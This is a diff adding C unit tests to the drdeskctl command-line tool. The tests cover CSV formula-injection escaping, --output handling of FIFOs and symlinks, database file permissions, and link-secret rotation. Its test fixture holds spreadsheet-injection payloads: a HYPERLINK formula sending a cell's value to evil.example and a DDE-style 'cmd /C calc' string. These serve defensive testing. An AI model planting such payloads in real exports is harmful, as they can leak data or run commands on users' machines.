@@ -4,7 +4,13 @@
 #include "../drd-test-sql.h"
 #include "config.h"
 
+#include <errno.h>
+#include <fcntl.h>
+#include <poll.h>
+#include <signal.h>
 #include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
 #include <gio/gio.h>
 #include <glib/gstdio.h>
 #include <json-glib/json-glib.h>
@@ -1449,6 +1455,345 @@ test_baseline_bad_input (Fixture *f, gconstpointer data)
   run_clear (&r);
 }
 
+/* ---- files meant for spreadsheets, --output, modes, the link secret ---- */
+
+static char *
+links_of (Fixture *f, gint64 event, int expect_status)
+{
+  g_autofree char *id = g_strdup_printf ("%" G_GINT64_FORMAT, event);
+  Run r = RUN (f, "links", id);
+
+  g_assert_cmpint (r.status, ==, expect_status);
+  g_free (r.err);
+  return r.out;
+}
+
+static gint64
+formula_customers (Fixture *f)
+{
+  g_autofree char *csv = write_file (f, "evil.csv",
+    HEADER
+    "1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"bonus\"\")\",1000000001,r1,10,,,+82 10-1234-5678,,\n"
+    "2,+cmd|' /C calc'!A0,1000000002,r1,20,,,-1,,\n"
+    "3,-2+3,1000000003,r1,30,,,,,\n"
+    "4,@SUM(1+1),1000000004,r1,40,,,,,\n"
+    "5,Plain Name,1000000005,r1,50,,,010-1234-5678,a@b.example,\n");
+  Run r;
+
+  init_db (f);
+  r = RUN (f, "customers", "import", csv);
+  g_assert_cmpint (r.status, ==, 0);
+  run_clear (&r);
+  return start_event (f, "=peak", "2030-07-01T14:00:00+09:00", "2030-07-01T16:00:00+09:00", "r1");
+}
+
+static void
+test_links_formula_guard (Fixture *f, gconstpointer data)
+{
+  g_autoptr(JsonParser) parser = json_parser_new ();
+  g_autoptr(GError) error = NULL;
+  gint64 event = formula_customers (f);
+  g_autofree char *links = links_of (f, event, 0);
+  g_autofree char *list = NULL;
+  g_auto(GStrv) lines = g_strsplit (links, "\n", -1);
+  JsonArray *a;
+  Run r;
+
+  g_assert_cmpuint (g_strv_length (lines), ==, 7);   /* header, 5 rows, "" */
+  g_assert_true (g_str_has_prefix (lines[1], "1,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,"
+                                             "\"\"bonus\"\")\",'+82 10-1234-5678,,http"));
+  g_assert_true (g_str_has_prefix (lines[2], "2,'+cmd|' /C calc'!A0,'-1,,http"));
+  g_assert_true (g_str_has_prefix (lines[3], "3,'-2+3,,,http"));
+  g_assert_true (g_str_has_prefix (lines[4], "4,'@SUM(1+1),,,http"));
+  g_assert_true (g_str_has_prefix (lines[5], "5,Plain Name,010-1234-5678,a@b.example,http"));
+
+  /* Machines read the raw values: customers list (CSV re-imports as it
+   * is, JSON). */
+  list = list_csv (f, f->db);
+  g_assert_nonnull (strstr (list, "\n2,+cmd|' /C calc'!A0,"));
+  g_assert_nonnull (strstr (list, "\n3,-2+3,"));
+  g_assert_null (strstr (list, "'-2+3"));
+  r = RUN (f, "customers", "list", "--format", "json");
+  g_assert_cmpint (r.status, ==, 0);
+  g_assert_true (json_parser_load_from_data (parser, r.out, -1, &error));
+  g_assert_no_error (error);
+  a = json_node_get_array (json_parser_get_root (parser));
+  g_assert_cmpstr (json_object_get_string_member (json_array_get_object_element (a, 2), "name"), ==,
+                   "-2+3");
+  g_assert_cmpstr (json_object_get_string_member (json_array_get_object_element (a, 0), "phone"), ==,
+                   "+82 10-1234-5678");
+  run_clear (&r);
+
+  /* --raw: the values as they are, for tools that are not spreadsheets. */
+  {
+    g_autofree char *id = g_strdup_printf ("%" G_GINT64_FORMAT, event);
+
+    r = RUN (f, "links", id, "--raw");
+    g_assert_cmpint (r.status, ==, 0);
+    g_assert_nonnull (strstr (r.out, "\n3,-2+3,,,http"));
+    g_assert_nonnull (strstr (r.out, ",+82 10-1234-5678,"));
+    run_clear (&r);
+  }
+}
+
+typedef struct {
+  int      fd;          /* the FIFO's read end, O_NONBLOCK, opened before the writer */
+  GString *data;
+  gint     proc_done;
+} FifoRead;
+
+static gpointer
+fifo_reader (gpointer p)
+{
+  FifoRead *fr = p;
+  char buf[4096];
+
+  for (;;)
+    {
+      struct pollfd pfd = { fr->fd, POLLIN, 0 };
+      gboolean finished = g_atomic_int_get (&fr->proc_done);
+      gssize n;
+
+      poll (&pfd, 1, 50);
+      n = read (fr->fd, buf, sizeof buf);
+      if (n > 0)
+        g_string_append_len (fr->data, buf, n);
+      else if (finished)
+        break;    /* the writer is gone and everything was read */
+    }
+  close (fr->fd);
+  return NULL;
+}
+
+/* Runs ARGV with a reader on FIFO; returns what came through it. */
+static char *
+run_into_fifo (Fixture *f, const char *fifo, const char *const *argv, Run *r)
+{
+  FifoRead fr = { open (fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC), g_string_new (NULL), 0 };
+  GThread *t;
+
+  g_assert_cmpint (fr.fd, >=, 0);
+  t = g_thread_new ("fifo", fifo_reader, &fr);
+  *r = run_db (f, argv);
+  g_atomic_int_set (&fr.proc_done, 1);
+  g_thread_join (t);
+  return g_string_free (fr.data, FALSE);
+}
+
+static guint
+mode_of (const char *path)
+{
+  struct stat st;
+
+  g_assert_cmpint (lstat (path, &st), ==, 0);
+  return st.st_mode & 07777;
+}
+
+/* --output writes into what it is pointed at: a FIFO stays a FIFO, a
+ * symlink stays a symlink (its file gets the text, keeping its mode),
+ * "-" is stdout; new files are 0600 under umask 022. Never /dev/null:
+ * as root the old code replaced the system's. */
+static void
+check_output_targets (Fixture *f, const char *const *cmd, const char *expect_prefix)
+{
+  g_autofree char *fifo = g_build_filename (f->dir, "pipe", NULL);
+  g_autofree char *real = g_build_filename (f->dir, "real.csv", NULL);
+  g_autofree char *link = g_build_filename (f->dir, "link.csv", NULL);
+  g_autofree char *fresh = g_build_filename (f->dir, "fresh.csv", NULL);
+  g_autofree char *dangling = g_build_filename (f->dir, "dangling.csv", NULL);
+  g_autofree char *through_fifo = NULL, *stdout_text = NULL, *text = NULL;
+  const char *targets[] = { fifo, link, fresh, "-", dangling, f->dir };
+  Run r;
+
+  g_unlink (fifo);
+  g_unlink (real);
+  g_unlink (link);
+  g_unlink (fresh);
+  g_unlink (dangling);
+  g_assert_cmpint (mkfifo (fifo, 0644), ==, 0);
+  g_assert_true (g_file_set_contents (real, "old", -1, NULL));
+  g_assert_cmpint (chmod (real, 0640), ==, 0);
+  g_assert_cmpint (symlink ("real.csv", link), ==, 0);
+  g_assert_cmpint (symlink ("missing-dir/none.csv", dangling), ==, 0);
+
+  for (guint t = 0; t < G_N_ELEMENTS (targets); t++)
+    {
+      g_autoptr(GPtrArray) args = g_ptr_array_new ();
+
+      for (guint i = 0; cmd[i] != NULL; i++)
+        g_ptr_array_add (args, (gpointer) cmd[i]);
+      g_ptr_array_add (args, "--output");
+      g_ptr_array_add (args, (gpointer) targets[t]);
+      g_ptr_array_add (args, NULL);
+      if (t == 0)
+        {
+          through_fifo = run_into_fifo (f, fifo, (const char *const *) args->pdata, &r);
+          g_assert_cmpint (r.status, ==, 0);
+          g_assert_true (g_str_has_prefix (through_fifo, expect_prefix));
+          {
+            struct stat st;
+
+            g_assert_cmpint (lstat (fifo, &st), ==, 0);
+            g_assert_true (S_ISFIFO (st.st_mode));
+          }
+        }
+      else
+        {
+          r = run_db (f, (const char *const *) args->pdata);
+          if (t <= 3)
+            g_assert_cmpint (r.status, ==, 0);
+          else
+            {
+              /* a symlink to nowhere, a folder: refused with a message */
+              g_assert_cmpint (r.status, ==, 1);
+              assert_one_error_line (g_strrstr (r.err, "drdeskctl: "));
+            }
+          if (t == 3)
+            stdout_text = g_strdup (r.out);
+          else
+            g_assert_cmpstr (r.out, ==, "");
+        }
+      run_clear (&r);
+    }
+
+  g_assert_true (g_file_test (link, G_FILE_TEST_IS_SYMLINK));
+  g_assert_true (g_file_get_contents (real, &text, NULL, NULL));
+  g_assert_cmpstr (text, ==, through_fifo);
+  g_assert_cmpuint (mode_of (real), ==, 0640);
+  g_clear_pointer (&text, g_free);
+  g_assert_true (g_file_get_contents (fresh, &text, NULL, NULL));
+  g_assert_cmpstr (text, ==, through_fifo);
+  g_assert_cmpuint (mode_of (fresh), ==, 0600);
+  g_assert_cmpstr (stdout_text, ==, through_fifo);
+  g_assert_true (g_file_test (dangling, G_FILE_TEST_IS_SYMLINK));
+  g_assert_false (g_file_test (dangling, G_FILE_TEST_EXISTS));
+  g_assert_true (g_file_test (f->dir, G_FILE_TEST_IS_DIR));
+}
+
+static void
+test_output_targets (Fixture *f, gconstpointer data)
+{
+  gint64 event;
+  g_autofree char *id = NULL;
+  Run r;
+
+  umask (022);
+  event = formula_customers (f);
+  id = g_strdup_printf ("%" G_GINT64_FORMAT, event);
+  check_output_targets (f, (const char *const []) { "links", id, NULL }, "customer_id,name,");
+  r = RUN (f, "event", "end", id);
+  g_assert_cmpint (r.status, ==, 0);
+  run_clear (&r);
+  check_output_targets (f, (const char *const []) { "export", "settlement", id, NULL },
+                        "event_id,event_name,");
+}
+
+/* The database and its WAL and SHM are the operator's alone, wherever
+ * --db points (the default folder is 0700, a --db elsewhere is not). */
+static void
+test_db_file_modes (Fixture *f, gconstpointer data)
+{
+  g_autoptr(GSubprocessLauncher) launcher = NULL;
+  g_autoptr(GSubprocess) proc = NULL;
+  g_autoptr(GDataInputStream) lines = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *line = NULL, *wal = g_strconcat (f->db, "-wal", NULL);
+  g_autofree char *shm = g_strconcat (f->db, "-shm", NULL);
+
+  umask (022);
+  g_assert_cmpint (chmod (f->dir, 0755), ==, 0);
+  init_db (f);
+  g_assert_cmpuint (mode_of (f->db), ==, 0600);
+
+  /* serve keeps the database open: WAL and SHM exist meanwhile. */
+  launcher = g_subprocess_launcher_new (G_SUBPROCESS_FLAGS_STDOUT_PIPE
+                                        | G_SUBPROCESS_FLAGS_STDERR_SILENCE);
+  g_subprocess_launcher_setenv (launcher, "GSETTINGS_BACKEND", "memory", TRUE);
+  proc = g_subprocess_launcher_spawn (launcher, &error, drdeskctl, "--db", f->db, "serve",
+                                      "--listen", "127.0.0.1:0", NULL);
+  g_assert_no_error (error);
+  lines = g_data_input_stream_new (g_subprocess_get_stdout_pipe (proc));
+  line = g_data_input_stream_read_line (lines, NULL, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_nonnull (line);
+  g_assert_true (g_str_has_prefix (line, "LISTENING "));
+  g_assert_true (g_file_test (wal, G_FILE_TEST_EXISTS));
+  g_assert_cmpuint (mode_of (wal), ==, 0600);
+  g_assert_cmpuint (mode_of (shm), ==, 0600);
+  g_subprocess_send_signal (proc, SIGTERM);
+  g_subprocess_wait (proc, NULL, NULL);
+}
+
+/* Links were issued: a missing or different <db>.secret is an error that
+ * says what happened and how to rotate on purpose, never a silent new
+ * secret (which would change every customer's link). */
+static void
+test_links_secret (Fixture *f, gconstpointer data)
+{
+  gint64 event = formula_customers (f);
+  g_autofree char *secret = g_strconcat (f->db, ".secret", NULL);
+  g_autofree char *before = links_of (f, event, 0);
+  g_autofree char *again = NULL, *after = NULL, *id = g_strdup_printf ("%" G_GINT64_FORMAT, event);
+  Run r;
+
+  again = links_of (f, event, 0);
+  g_assert_cmpstr (before, ==, again);
+  g_clear_pointer (&again, g_free);
+
+  g_assert_cmpint (g_unlink (secret), ==, 0);
+  r = RUN (f, "links", id);
+  g_assert_cmpint (r.status, ==, 1);
+  assert_one_error_line (r.err);
+  g_assert_nonnull (strstr (r.err, "missing"));
+  g_assert_nonnull (strstr (r.err, "drdeskctl links --rotate-all"));
+  g_assert_cmpstr (r.out, ==, "");
+  run_clear (&r);
+  g_assert_false (g_file_test (secret, G_FILE_TEST_EXISTS));
+  /* serve (and the window, through the same store function) refuse too */
+  r = RUN (f, "serve", "--listen", "127.0.0.1:0");
+  g_assert_cmpint (r.status, ==, 1);
+  g_assert_nonnull (strstr (r.err, "--rotate-all"));
+  run_clear (&r);
+  g_assert_false (g_file_test (secret, G_FILE_TEST_EXISTS));
+
+  /* another secret: refused the same way */
+  {
+    guint8 other[32];
+    int fd;
+
+    for (guint i = 0; i < sizeof other; i++)
+      other[i] = (guint8) (i * 7 + 1);
+    fd = open (secret, O_WRONLY | O_CREAT | O_EXCL, 0600);
+    g_assert_cmpint (fd, >=, 0);
+    g_assert_cmpint (write (fd, other, sizeof other), ==, sizeof other);
+    close (fd);
+  }
+  r = RUN (f, "links", id);
+  g_assert_cmpint (r.status, ==, 1);
+  g_assert_nonnull (strstr (r.err, "not the one"));
+  g_assert_nonnull (strstr (r.err, "--rotate-all"));
+  run_clear (&r);
+
+  /* deliberate rotation: new links for everyone, audited */
+  r = RUN (f, "links", "--rotate-all");
+  g_assert_cmpint (r.status, ==, 0);
+  g_assert_nonnull (strstr (r.err, "5"));
+  run_clear (&r);
+  after = links_of (f, event, 0);
+  g_assert_cmpstr (after, !=, before);
+  again = links_of (f, event, 0);
+  g_assert_cmpstr (after, ==, again);
+  g_assert_cmpint (sql_int (f->db, "SELECT count(*) FROM customers WHERE token_hash IS NOT NULL"),
+                   ==, 5);
+  g_assert_cmpint (sql_int (f->db, "SELECT count(*) FROM audit_log WHERE action = 'token.rotate_all'"),
+                   ==, 1);
+  g_assert_cmpuint (mode_of (secret), ==, 0600);
+  /* --rotate-all takes nothing else */
+  r = RUN (f, "links", "--rotate-all", id);
+  g_assert_cmpint (r.status, ==, 2);
+  run_clear (&r);
+}
+
 int
 main (int argc, char **argv)
 {
@@ -1484,5 +1829,9 @@ main (int argc, char **argv)
   ADD ("/cli/baseline/factory", test_baseline_factory);
   ADD ("/cli/baseline/insufficient", test_baseline_insufficient);
   ADD ("/cli/baseline/bad-input", test_baseline_bad_input);
+  ADD ("/cli/links/formula-guard", test_links_formula_guard);
+  ADD ("/cli/links/secret", test_links_secret);
+  ADD ("/cli/output/targets", test_output_targets);
+  ADD ("/cli/files/db-modes", test_db_file_modes);
   return g_test_run ();
 }
